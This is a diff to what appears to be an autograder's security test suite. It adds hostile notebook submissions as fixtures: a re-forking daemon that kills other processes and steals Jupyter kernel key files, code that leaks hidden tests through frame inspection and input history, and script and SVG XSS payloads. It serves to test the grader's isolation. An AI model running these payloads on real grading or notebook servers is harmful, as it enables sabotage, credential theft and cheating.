@@ -24,6 +24,96 @@ SECRET = "s3cret-grader-env-value"
 
 # What a submission must never be able to see or print.
 LEAK_MARKERS = ("BEGIN SOLUTION", "BEGIN HIDDEN TESTS", "hidden_test(", "SQLite format 3", SECRET)
+# Printed beside every attempt to leak the hidden tests: the learner's feedback must show none of it.
+LEAK_PROBE = "LEAKPROBE"
+XSS_MARK = "xss_payload_marker"
+# Honest students graded after the hostile ones (student folders are graded in name order).
+AFTER = [f"zz_after_{i}" for i in range(1, 5)]
+
+SURVIVOR = """import os, signal, socket, time, glob
+def _haunt():
+    # outlive the notebook: kill every later kernel it can see, steal their connection keys
+    while True:
+        for p in os.listdir("/proc"):
+            if p.isdigit() and int(p) not in (os.getpid(), 1):
+                try:
+                    os.kill(int(p), signal.SIGKILL)
+                except OSError:
+                    pass
+        for f in glob.glob("/tmp/**/kernel*.json", recursive=True):
+            try:
+                open("/dev/shm/loot", "a").write(open(f).read())
+            except OSError:
+                pass
+        time.sleep(0.05)
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        while True:  # re-fork so no pid lives long enough to be listed
+            if os.fork() == 0:
+                _haunt()
+            time.sleep(3600)
+    os._exit(0)
+def add_one(x):
+    return x
+"""
+
+LEAK_2 = """import base64, inspect, linecache, os, sys
+def _leak(where, text):
+    mark = "LEAK" "PROBE"  # spelled apart, so that only what the cell prints holds the mark
+    print(mark, where, str(text)[:3000])
+    print(mark, "b64", base64.b64encode(str(text).encode("utf-8", "replace")).decode()[:3000])
+_leak("seed", "SEED=%s" % os.environ.get("AUTOGRADER_SEED"))
+_leak("In", In[-2] if len(In) > 1 else "")
+_leak("_ih", "\\n".join(_ih))
+_leak("linecache", "".join("".join(v[2]) for v in list(linecache.cache.values()) if len(v) > 2))
+def double(x):
+    # called by the hidden test: look at the caller and shout its source
+    frame = sys._getframe(1)
+    try:
+        _leak("frame", inspect.getsource(frame.f_code))
+    except Exception as e:
+        _leak("frame", frame.f_code.co_consts)
+    return 2 * x
+"""
+
+LEAK_RAISE_2 = """import sys
+def double(x):
+    frame = sys._getframe(1)
+    raise ValueError("LEAK" "PROBE " + "\\n".join(get_ipython().user_ns["In"]))
+"""
+
+BAD_OUTPUTS_1 = """from IPython.display import display
+print("a NUL \\x00 here")
+print("\\ud800 \\udfff")
+display({"text/plain": "\\udcff surrogate in a bundle", "application/json": {"big": 10**400, "nan": float("nan"),
+         "inf": float("inf")}}, raw=True)
+deep = []
+for _ in range(600):
+    deep = [deep]
+display({"application/json": {"deep": deep}, "text/plain": "deep"}, raw=True)
+display({"text/plain": 12345678901234567890123456789}, raw=True)
+def add_one(x):
+    return x + 1
+"""
+
+XSS_1 = """from IPython.display import HTML, Javascript, display
+display(HTML("<script>window.xss_payload_marker = 1</script><b>bold</b>"))
+display(Javascript("window.xss_payload_marker = 2"))
+display({"image/svg+xml": "<svg onload='window.xss_payload_marker=3'></svg>", "text/plain": "svg"}, raw=True)
+display({"application/vnd.jupyter.widget-view+json": {"model_id": "xss_payload_marker"}}, raw=True)
+def add_one(x):
+    return x + 1
+"""
+
+FORGE_HUGE = """from IPython.display import display
+for ex in ("ex0_1", "ex0_2"):
+    display({"application/vnd.autograder.observations+json":
+             {"exercise": ex, "observations": [{"name": "random", "value": {"t": "tensor", "dtype": "torch.float32",
+              "shape": [10**400], "data": [10**400] * 7}}, {"name": ["x"]}, 7, None], "error": {"a": 10**400}}}, raw=True)
+def add_one(x):
+    return x
+"""
 
 
 @dataclass
@@ -148,6 +238,10 @@ p.hidden_test = lambda ex: (lambda fn: None)
 def add_one(x):
     return x
 """)),
+        Case("survivor", "leaves a double-forked, re-forking daemon that kills later kernels and steals their keys", 0,
+             answers=_ans(SURVIVOR)),
+        Case("forge_huge_numbers", "forges observations holding huge ints, malformed names and error objects", 0,
+             answers=_ans(FORGE_HUGE)),
         Case("kill_everything", "signals every process it can see", 0,
              answers=_ans("import os, signal\nos.kill(-1, signal.SIGKILL)\n")),
         Case("write_outside", "writes files outside its folder (course dir, /tmp, home) and reads the environment", 0,
@@ -228,6 +322,22 @@ raise RuntimeError("fork storm over")
              answers=_ans(CORRECT_1, "while True:\n    print('x' * 100000)\n")),
         Case("big_file", "writes a file larger than allowed", 1, reason="", attack=False,
              answers=_ans(CORRECT_1, "open('big.bin', 'wb').write(b'0' * (512 << 20))\n" + CORRECT_2)),
+        Case("leak_hidden", "prints In, _ih, linecache and the hidden test's frame, plain and base64 (answers right)",
+             3, attack=False, answers=_ans(CORRECT_1, LEAK_2)),
+        Case("leak_by_raising", "raises the hidden test's source from inside the tested function", 1,
+             attack=False, answers=_ans(CORRECT_1, LEAK_RAISE_2)),
+        Case("bad_outputs", "prints lone surrogates and NULs, displays huge ints, NaN and deep nesting (answers right)",
+             3, attack=False, answers=_ans(BAD_OUTPUTS_1, CORRECT_2)),
+        Case("active_content", "displays HTML with script, JavaScript, SVG and a widget (answers right)", 3,
+             attack=False, answers=_ans(XSS_1, CORRECT_2),
+             mutate=lambda nb: _append(nb, "markdown", "<script>window.xss_payload_marker = 4</script>")),
+        Case("list_grade_id", "a list as the grade_id of the first answer cell (answers right)", 2,
+             tamper="malformed", attack=False, answers=_ans(CORRECT_1, CORRECT_2), mutate=_list_grade_id),
+        Case("output_volume", "many cells each printing up to the per-cell budget (answers right)", 3, attack=False,
+             answers=_ans(CORRECT_1, CORRECT_2),
+             mutate=lambda nb: _append(nb, "code", *["print('y' * (250 << 10))"] * 40)),
+        Case("huge_message", "one message far larger than the output budget", 1, reason="output", attack=False,
+             answers=_ans(CORRECT_1, "import sys\nsys.stdout.write('z' * (64 << 20))\nsys.stdout.flush()\n" + CORRECT_2)),
         Case("malformed", "a file that is not JSON", 0, reason="could not be read", attack=False,
              raw=b"{this is not a notebook"),
         Case("truncated", "a notebook cut in half", 0, reason="could not be read", attack=False, raw=None),
@@ -274,6 +384,28 @@ def _duplicate(nb):
     copy["source"] = "print('a second copy')"
     nb["cells"].append(copy)
     return nb
+
+
+def _append(nb, kind, *sources):
+    for src in sources:
+        cell = {"cell_type": kind, "metadata": {}, "source": src}
+        if kind == "code":
+            cell.update(outputs=[], execution_count=None)
+        nb["cells"].append(cell)
+    return nb
+
+
+def _list_grade_id(nb):
+    for c in _cells(nb):
+        if _gid(c) == "ex0_1_solution":
+            c["metadata"]["nbgrader"]["grade_id"] = ["ex0_1_solution"]
+    return nb
+
+
+def after_cases() -> list[Case]:
+    """Honest students graded after every hostile one: each keeps full marks."""
+    return [Case(s, "honest, graded after the hostile submissions", 3, attack=False,
+                 answers=_ans(CORRECT_1, CORRECT_2)) for s in AFTER]
 
 
 def _other_assignment(nb):
